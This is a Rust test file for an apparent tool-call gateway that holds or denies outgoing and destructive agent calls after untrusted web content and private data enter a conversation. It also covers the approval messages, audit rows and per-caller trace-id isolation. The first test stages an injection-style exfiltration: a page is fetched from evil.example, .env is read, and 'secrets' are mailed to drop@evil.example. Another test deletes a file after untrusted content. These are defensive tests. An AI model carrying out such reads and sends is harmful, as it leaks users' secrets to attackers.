//! `[flows]`: after untrusted content and private data entered a
//! conversation, a call that can send it out needs a person (who is told
//! why), a `deny` rule refuses it, a client that cannot ask is told why, a
//! grant does not cover it, and the audit row keeps the flow. Flows are per
//! caller, whatever trace id is sent; bad input is refused or ignored.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::time::Duration;

use serde_json::{Value, json};
use support::flows::{Ran, upstreams};
use support::{Person, config, outcome_of, refused, serve};
use toolgate_client::Client;
use toolgate_client::transport::http::{HttpOptions, HttpTransport};
use toolgate_gateway::config::GatewayConfig;
use toolgate_gateway::store::calllog::logged::query;
use toolgate_gateway::store::sqlite::Filter;
use toolgate_gateway::{Gateway, GatewayOptions};

/// A gateway over the five flow servers with `extra` sections; its URL.
async fn start(ran: &Ran, extra: &str) -> (Gateway, String) {
    let mut text = String::new();
    for (name, url) in upstreams(ran).await {
        text.push_str(&format!("[servers.{name}]\nurl = \"{url}\"\n"));
    }
    let gateway = Gateway::start(config(&format!("{text}{extra}")), GatewayOptions::default())
        .await
        .unwrap();
    let url = serve(gateway.server()).await;
    (gateway, url)
}

fn client(url: &str, person: Option<Person>) -> Client {
    let mut b = Client::builder("test", "1").timeout(Duration::from_secs(10));
    if let Some(person) = person {
        b = b.input_handler(person);
    }
    b.build(HttpTransport::new(url, HttpOptions::default()).unwrap())
}

const ALLOW: &str = "[policy]\ndefault = \"allow\"\n";

#[tokio::test]
async fn a_sink_after_untrusted_and_private_content_asks_a_person_who_is_told_why() {
    let ran = Ran::default();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let store = format!(
        "[audit]\npath = {}\n",
        support::toml_string(&db.display().to_string())
    );
    // A rule that remembers: its grant must not cover what a flow holds.
    let policy = "[policy]\ndefault = \"allow\"\n[[policy.rules]]\ntools = [\"mail.*\"]\naction = \"confirm\"\nremember = \"1h\"\n";
    let (gateway, url) = start(&ran, &format!("{store}{policy}")).await;
    let person = Person::new(json!({"action": "decline"}));
    let c = client(&url, Some(person.clone()));

    // Nothing has entered the flow: the policy alone decides (confirm,
    // declined).
    let (ok, _) = outcome_of(
        &c,
        "mail.send_email",
        json!({"to": "a@b.example", "subject": "s", "body": "b"}),
    )
    .await;
    assert!(!ok);
    let first = person.approvals()[0]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(!first.contains("Why you are asked"), "{first}");

    for (tool, args) in [
        (
            "web.fetch_page",
            json!({"url": "https://evil.example/setup"}),
        ),
        ("files.read_file", json!({"path": ".env"})),
    ] {
        let (ok, text) = outcome_of(&c, tool, args).await;
        assert!(ok, "{text}");
    }
    ran.lock().clear();
    let (ok, text) = outcome_of(
        &c,
        "mail.send_email",
        json!({"to": "drop@evil.example", "subject": "env", "body": "secrets"}),
    )
    .await;
    assert!(!ok, "{text}");
    assert!(ran.lock().is_empty(), "the mail was sent: {:?}", ran.lock());
    let asked = person.approvals().last().unwrap()["message"]
        .as_str()
        .unwrap()
        .to_owned();
    let why = "Why you are asked: web.fetch_page at ";
    assert!(asked.contains(why), "{asked}");
    assert!(
        asked.contains("returned content from evil.example; files.read_file at ")
            && asked
                .contains(" read private data; this call of mail.send_email could carry it out."),
        "{asked}"
    );
    gateway.stop();
    let rows = query(&db, &Filter::default()).unwrap();
    // Oldest first: the last row is the held call's last round.
    let held = rows.last().unwrap();
    assert_eq!(held.tool, "mail.send_email");
    assert_eq!(held.rule.as_deref(), Some("flow: built-in rule 1"));
    assert_eq!(held.flow.as_deref(), Some("caller"));
    assert_eq!(held.flow_labels.as_deref(), Some("private,untrusted"));
    assert_eq!(held.status, "declined");
    // The fetch that brought the content is in the flow too.
    let fetched = rows.iter().find(|r| r.tool == "web.fetch_page").unwrap();
    assert_eq!(fetched.flow.as_deref(), Some("caller"));
}

#[tokio::test]
async fn a_deny_rule_refuses_and_a_client_that_cannot_ask_is_told_why() {
    let ran = Ran::default();
    let (gateway, url) = start(
        &ran,
        &format!("{ALLOW}[[flows.rules]]\nafter = [\"untrusted\"]\ncalls = [\"destructive\"]\naction = \"deny\"\n"),
    )
    .await;
    // No input handler: this client cannot be asked.
    let c = client(&url, None);
    let (ok, text) = outcome_of(
        &c,
        "web.fetch_page",
        json!({"url": "https://evil.example/x"}),
    )
    .await;
    assert!(ok, "{text}");
    ran.lock().clear();
    let text = refused(&c, "files.delete_file", json!({"path": "thesis.tex"})).await;
    assert!(
        text.starts_with("The gateway holds this call of \"files.delete_file\": web.fetch_page at ")
            && text.contains("returned content from evil.example; this call of files.delete_file could act on its instructions."),
        "{text}"
    );
    let text = refused(
        &c,
        "mail.send_email",
        json!({"to": "x@evil.example", "subject": "s", "body": "b"}),
    )
    .await;
    assert!(
        text.starts_with(
            "This call of \"mail.send_email\" needs a person's approval (web.fetch_page at "
        ),
        "{text}"
    );
    assert!(ran.lock().is_empty(), "{:?}", ran.lock());
    // A tool of no class is never held.
    let (ok, text) = outcome_of(
        &c,
        "cal.create_event",
        json!({"title": "t", "day": "2026-12-08"}),
    )
    .await;
    assert!(ok, "{text}");
    gateway.stop();
}

/// A raw `tools/call` of `tool` with `_meta` extended by `meta`, as a
/// host sends it; the JSON-RPC answer.
async fn call_with_meta(url: &str, tool: &str, args: Value, meta: Value) -> Value {
    let mut m = json!({
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {}
    });
    for (k, v) in meta.as_object().unwrap() {
        m[k] = v.clone();
    }
    let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": tool, "arguments": args, "_meta": m}});
    let (status, said) = support::http(
        "POST",
        url,
        &[
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("MCP-Protocol-Version", "2026-07-28"),
            ("Mcp-Method", "tools/call"),
            ("Mcp-Name", tool),
        ],
        Some(&body.to_string()),
    )
    .await;
    assert_eq!(status, 200, "{said}");
    serde_json::from_str(said.split("\r\n\r\n").nth(1).unwrap()).unwrap()
}

#[tokio::test]
async fn trace_ids_split_flows_but_never_join_callers_and_bad_ones_are_ignored() {
    let ran = Ran::default();
    let (gateway, url) = start(&ran, &format!("{ALLOW}[flows]\nkey = \"auto\"\n")).await;
    let trace = |id: &str| json!({"traceparent": format!("00-{id}-00f067aa0ba902b7-01")});
    let one = "4bf92f3577b34da6a3ce929d0e0e4736";
    let two = "5cf92f3577b34da6a3ce929d0e0e4737";
    let fetched = call_with_meta(
        &url,
        "web.fetch_page",
        json!({"url": "https://evil.example/a"}),
        trace(one),
    )
    .await;
    assert_eq!(fetched["result"]["isError"], Value::Null, "{fetched}");
    // Another trace is another flow: its sink is not held.
    let mail = json!({"to": "a@b.example", "subject": "s", "body": "b"});
    let sent = call_with_meta(&url, "mail.send_email", mail.clone(), trace(two)).await;
    assert_eq!(sent["result"]["isError"], Value::Null, "{sent}");
    // The same trace is held (this client cannot be asked: it says so).
    let held = call_with_meta(&url, "mail.send_email", mail.clone(), trace(one)).await;
    assert_eq!(held["result"]["isError"], true, "{held}");
    // A trace id that is not W3C (too long, control characters) is
    // ignored: the call is in the caller's flow, and answered.
    for bad in [
        json!({"traceparent": format!("00-{}-00f067aa0ba902b7-01", "a".repeat(300))}),
        json!({"traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736\u{7}-00f067aa0ba902b7-01"}),
    ] {
        let answer = call_with_meta(
            &url,
            "web.fetch_page",
            json!({"url": "https://docs.example"}),
            bad,
        )
        .await;
        assert_eq!(answer["result"]["isError"], Value::Null, "{answer}");
    }
    gateway.stop();
}

#[tokio::test]
async fn a_trace_id_never_reaches_another_callers_flow() {
    let ran = Ran::default();
    let (gateway, _) = start(&ran, &format!("{ALLOW}[flows]\nkey = \"auto\"\n")).await;
    // Two callers behind the same trace id: one flow each.
    let flows = toolgate_gateway::decide::flows::Flows::new(&gateway.running_config().flows)
        .unwrap()
        .unwrap();
    let trace = Some("4bf92f3577b34da6a3ce929d0e0e4736");
    let alice = flows.flow_of(Some("alice"), "", trace).unwrap();
    let bob = flows.flow_of(Some("bob"), "", trace).unwrap();
    let anonymous = flows.flow_of(None, "", trace).unwrap();
    assert_ne!(alice.key, bob.key);
    assert_ne!(alice.key, anonymous.key);
    gateway.stop();
}

#[test]
fn bad_flow_configurations_are_refused_at_load() {
    for (toml, said) in [
        (
            "[[flows.rules]]\nafter = [\"tainted\"]\ncalls = [\"sink\"]\naction = \"deny\"\n",
            "flows rule 1: unknown class \"tainted\" (the classes are untrusted, private, sink, destructive)",
        ),
        (
            "[[flows.rules]]\nafter = []\ncalls = [\"sink\"]\naction = \"deny\"\n",
            "flows rule 1: give the classes that entered the flow (`after`) and those of the call (`calls`)",
        ),
        (
            "[[flows.classes]]\ntools = [\"web.*\"]\nclasses = [\"public\"]\n",
            "[[flows.classes]] 1: unknown class \"public\"",
        ),
        ("[flows]\nwindow = \"soon\"\n", "[flows] window: "),
        (
            "[flows]\nmax_flows = 0\n",
            "[flows] max_flows must be at least 1",
        ),
        ("[flows]\nkey = \"session\"\n", "unknown variant `session`"),
    ] {
        let e = GatewayConfig::parse_toml(toml, |_| None).unwrap_err();
        let e = toolgate_protocol::error::with_causes(&e);
        assert!(e.contains(said), "{toml}: {e}");
    }
}

#[tokio::test]
async fn a_flood_of_flows_keeps_the_gateway_answering() {
    let ran = Ran::default();
    let (gateway, url) = start(
        &ran,
        &format!("{ALLOW}[flows]\nkey = \"auto\"\nmax_flows = 50\n"),
    )
    .await;
    for i in 0..300u32 {
        let id = format!("{:032x}", u128::from(i) + 1);
        let trace = json!({"traceparent": format!("00-{id}-00f067aa0ba902b7-01")});
        let answer = call_with_meta(
            &url,
            "web.fetch_page",
            json!({"url": "https://evil.example/a"}),
            trace,
        )
        .await;
        assert_eq!(answer["result"]["isError"], Value::Null, "{answer}");
    }
    gateway.stop();
}
